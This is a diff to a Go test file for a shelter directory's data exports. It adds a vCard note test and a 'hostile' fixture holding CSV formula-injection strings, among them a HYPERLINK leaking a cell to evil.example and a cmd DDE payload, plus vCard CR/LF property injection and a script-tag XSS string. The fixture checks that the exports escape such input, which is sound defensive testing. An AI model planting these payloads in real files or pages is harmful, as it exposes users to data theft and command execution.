@@ -309,6 +309,31 @@ func TestHoursLinksAndVCard(t *testing.T) {
 	}
 }
 
+// TestVCardNote: a vCard's note says how its entry is known in the vCard's language, as the
+// site says it, and names no source by its key.
+func TestVCardNote(t *testing.T) {
+	d, _ := build(t)
+	tests := []struct{ id, lang, want string }{
+		{"test-public", "en", "NOTE:Checked by phone on "},
+		{"test-public", "ru", "NOTE:Проверено по телефону "},
+		{"test-public", "kk", "NOTE:Телефон арқылы "},
+		{"line-111", "en", "NOTE:Taken from a published source (as of "},
+		{"line-111", "ru", "NOTE:Взято из опубликованного источника (по состоянию на "},
+		{"line-111", "kk", "NOTE:Жарияланған дереккөзден алынған ("},
+	}
+	for _, tt := range tests {
+		v := string(d.VCard(tt.id, tt.lang))
+		if !strings.Contains(v, tt.want) {
+			t.Errorf("%s %s: vCard lacks %q:\n%s", tt.id, tt.lang, tt.want, v)
+		}
+		for _, key := range d.Entries[tt.id].Sources {
+			if strings.Contains(v, key) {
+				t.Errorf("%s %s: vCard names the source key %q:\n%s", tt.id, tt.lang, key, v)
+			}
+		}
+	}
+}
+
 // TestCacheSameData: building again with a cache, after one record changed, gives the same
 // data as building afresh.
 func TestCacheSameData(t *testing.T) {
@@ -345,4 +370,106 @@ func dataJSON(t *testing.T, d *Data) []byte {
 		index = append(append(index, '\n'), entries[id]...)
 	}
 	return index
+}
+
+// hostile is an entry whose texts try to break out of every export: formulas for a
+// spreadsheet, a carriage return and a line feed that would start a vCard property of their
+// own, and markup that would end a script element. check refuses the control characters;
+// the exports must be safe without that check.
+const hostile = `---
+id: test-hostile
+kind: centre
+sample: true
+status: open
+region: KZ-71
+name: {kk: "=HYPERLINK(\"https://evil.example/?\"&A1)", ru: "@SUM(1+1)", en: "X\rTEL:+19005550100\nEMAIL:a@evil.example; b, c\\d"}
+organization: {kk: "+cmd|' /C calc'!A0", ru: "-2+3", en: "</script><script>alert(1)</script>"}
+city: {kk: "\tTab", ru: "\rCR", en: "Astana\u2028"}
+description: {kk: "Сынақ.", ru: "Тест.", en: "Test."}
+serves: [men]
+services: [legal]
+phones:
+  - number: "+77172123456"
+    label: {kk: "=1+1", ru: "=1+1", en: "=1+1"}
+    hours: "24/7"
+email: "test@example.org"
+hours: "24/7"
+languages: [kk]
+address_public: true
+address: {kk: "-1", ru: "@A1", en: "Street 1;\r\nTEL:+19005550100"}
+directions: {kk: "Аялдама", ru: "Остановка", en: "</script>"}
+called: {date: "2026-10-01", by: "=cmd"}
+---
+`
+
+// TestExportsEscape: no cell of the CSV starts with what a spreadsheet reads as a formula
+// (OWASP: =, +, -, @, tab, carriage return), phones included; every vCard value has its
+// backslashes, commas, semicolons and line breaks (CR too) escaped, so that no value starts
+// a property; JSON-LD and HSDS hold no markup a script element would end at, nor a raw line
+// separator.
+func TestExportsEscape(t *testing.T) {
+	regions, _ := record.LoadRegions(root)
+	sources, _ := source.Load(root)
+	cat, _ := message.Load(root, record.Languages)
+	r, _ := record.Parse("content/shelters/records/test-hostile.md", []byte(hostile))
+	if r == nil {
+		t.Fatal("the hostile record does not parse")
+	}
+	recs := []*record.Record{r}
+	record.Check(recs, regions, record.Options{Now: now, Sources: sources}) // normalises the phones
+	d := Build(recs, regions, sources, now, cat.T)
+	for _, lang := range record.Languages {
+		b, err := d.CSV(lang)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var phones string
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: CSV column %s starts a formula: %q", lang, CSVHeader[i], cell)
+				}
+				if CSVHeader[i] == "phones" {
+					phones = cell
+				}
+			}
+		}
+		if phones != "'+77172123456 (=1+1)" {
+			t.Errorf("%s: phones cell %q, want '+77172123456 (=1+1)", lang, phones)
+		}
+
+		v := string(d.VCard("test-hostile", lang))
+		for _, l := range strings.Split(strings.TrimSuffix(v, "\r\n"), "\r\n") {
+			if strings.ContainsAny(l, "\r\n") {
+				t.Errorf("%s: a vCard line holds a line break: %q", lang, l)
+			}
+			if strings.HasPrefix(l, "TEL") && l != "TEL;TYPE=VOICE:+77172123456" || strings.HasPrefix(l, "EMAIL") && l != "EMAIL:test@example.org" {
+				t.Errorf("%s: a value started a property of its own: %q", lang, l)
+			}
+		}
+		if lang == "en" {
+			for _, want := range []string{`FN:X\nTEL:+19005550100\nEMAIL:a@evil.example\; b\, c\\d`, `Street 1\;\nTEL:+19005550100`} {
+				if !strings.Contains(v, want) {
+					t.Errorf("vCard lacks %s:\n%s", want, v)
+				}
+			}
+		}
+
+		hsds, err := d.HSDS(lang)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for name, b := range map[string][]byte{"HSDS": hsds, "JSON-LD": []byte(d.Entries["test-hostile"].JSONLDText[lang])} {
+			if len(b) == 0 {
+				t.Errorf("%s: no %s", lang, name)
+			}
+			if bytes.ContainsAny(b, "<>\u2028\r") {
+				t.Errorf("%s: %s holds markup or a raw line break:\n%s", lang, name, b)
+			}
+		}
+	}
 }
